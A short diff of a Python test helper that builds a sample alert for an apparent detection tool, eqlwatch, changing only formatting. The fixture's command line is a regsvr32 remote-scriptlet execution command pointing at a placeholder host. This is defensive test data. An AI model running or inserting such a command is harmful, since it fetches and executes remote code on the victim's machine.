@@ -24,9 +24,7 @@ def sample_alert(job_id: str, now: datetime | None = None) -> Alert:
         "rule": {"id": "eqlwatch-actions-test", "name": "eqlwatch actions test"},
         "host": {"name": "test-host"},
         "user": {"name": "test-user"},
-        "process": {
-            "command_line": "regsvr32 /s /u /i:https://example.invalid/x.sct scrobj.dll"
-        },
+        "process": {"command_line": "regsvr32 /s /u /i:https://example.invalid/x.sct scrobj.dll"},
         "eqlwatch": {
             "alert_id": alert_id,
             "job_id": job_id,
